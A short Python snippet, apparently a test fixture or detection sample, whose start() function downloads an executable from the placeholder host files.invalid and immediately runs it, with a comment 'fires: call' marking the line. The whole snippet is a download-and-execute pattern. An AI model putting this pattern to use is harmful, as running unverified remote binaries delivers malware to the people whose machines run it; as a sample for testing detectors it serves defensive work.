import requests, subprocess
def start():
    with open("tool.exe", "wb") as out:
        out.write(requests.get("https://files.invalid/tool.exe").content)
    subprocess.Popen("tool.exe")  # fires: call
